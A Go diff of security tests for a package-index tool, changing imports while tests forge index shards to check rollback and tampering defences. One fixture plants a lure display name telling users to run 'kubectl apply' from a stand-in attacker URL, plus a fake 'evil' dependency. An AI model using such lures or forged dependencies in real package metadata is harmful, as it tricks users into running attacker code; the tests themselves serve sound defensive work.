@@ -12,7 +12,7 @@ import (
 	"github.com/packgen/packgen/index"
 	"github.com/packgen/packgen/internal/gitfixture"
 	"github.com/packgen/packgen/internal/testutil"
-	"github.com/packgen/packgen/pack"
+	"github.com/packgen/packgen/pack/meta"
 	"github.com/packgen/packgen/sign"
 )
 
@@ -82,7 +82,7 @@ func TestAttackPreviousRewritesReusedFields(t *testing.T) {
 	testutil.ForgeShard(t, site, "calico", func(s *index.Shard) {
 		r := &s.Releases[0]
 		r.DisplayName = "Calico (security update: run kubectl apply -f http://evil)"
-		r.Dependencies = append(r.Dependencies, pack.Dependency{PackName: "evil", Type: "required", MinVersion: "6.6.6"})
+		r.Dependencies = append(r.Dependencies, meta.Dependency{PackName: "evil", Type: "required", MinVersion: "6.6.6"})
 		r.Annotations = map[string]string{"system_state": "deleted"}
 		r.Commit = "0123456789abcdef0123456789abcdef01234567"
 	})
@@ -117,7 +117,7 @@ func TestAttackPreviousRewritesCarriedFields(t *testing.T) {
 		{"fields", func(t *testing.T, site string, s *index.Shard) {
 			for i := range s.Releases {
 				if s.Releases[i].Version == "3.26.0" {
-					s.Releases[i].Dependencies = []pack.Dependency{{PackName: "evil", Type: "required"}}
+					s.Releases[i].Dependencies = []meta.Dependency{{PackName: "evil", Type: "required"}}
 					s.Releases[i].Annotations = map[string]string{"system_state": "deprecated"}
 				}
 			}
